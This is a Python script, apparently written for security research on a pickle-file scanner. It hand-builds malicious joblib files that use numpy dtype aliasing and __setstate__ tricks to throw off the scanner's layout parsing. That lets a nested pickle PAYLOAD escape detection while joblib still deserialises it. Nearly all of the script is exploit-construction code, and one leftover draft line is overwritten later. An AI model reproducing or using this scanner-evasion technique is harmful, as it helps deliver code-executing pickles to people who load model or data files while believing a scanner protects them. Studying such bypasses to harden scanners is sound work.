# numpy.dtype(W) of an existing dtype W returns W itself (numpy makes no copy). The scanner reads
# the call as a NEW dtype node (whose BUILD state is exempt from hand-out, and which is not the
# wrapper's dtype). A BUILD on that alias runs W.__setstate__: W = dtype('V1') becomes V2
# (e1) or a 'u1' dtype gets hasobject (flags 1, e1b). The scanner lays out the wrapper's dtype
# W from W's own node (no state): 30 raw bytes; joblib reads 60 (e1) or a nested pickle (e1b).
import sys
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
def dstate(elsize, flags): return b'(K\x03'+U('|')+b'NNN'+I(elsize)+I(1 if elsize>=0 else -1)+I(flags)+b't'
def mk(code, st):
    h = b'\x80\x02' + dtype(code) + BINPUT(1) + b'0'
    h += G('numpy','dtype') + BINGET(1) + b'\x85R' + st + b'b0'
    h += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(30) + b'\x85' + U('C') + BINGET(1) + b'\x89NtR}b'
    return h
run('e1_dtype_alias.joblib', mk('V1', dstate(2, 0)) + region(60, [0, 30]))
# e1b: u1 dtype made to hold objects: joblib reads a nested pickle right after the BUILD
nested = b'0' + PAYLOAD + b'.'   # hmm: the nested pickle must be a pickle on its own
# e1b: a 'u1' dtype made to hold objects through the alias: joblib reads a nested pickle (the
# payload) right after the BUILD; the scanner skips 30 raw bytes, landing on the outer STOP. A
# first genuine 5-byte array (a BINSTRING header over the rest) keeps the plain pass off it.
def e1b():
    h = b'\x80\x02'
    first = G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(5) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR}b'
    h += first
    rest = b'0' + dtype('u1') + BINPUT(1) + b'0'
    rest += G('numpy','dtype') + BINGET(1) + b'\x85R' + dstate(-1, 1) + b'b0'
    rest += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(30) + b'\x85' + U('C') + BINGET(1) + b'\x89NtR}b'
    nested = PAYLOAD + b'.'
    assert len(nested) == 29
    rest += nested + b'0.'
    # the 5 array bytes: BINSTRING over everything up to the final STOP
    arr = T(len(rest) - 1)
    return h + arr + rest
run('e1b_dtype_alias_objects.joblib', e1b())
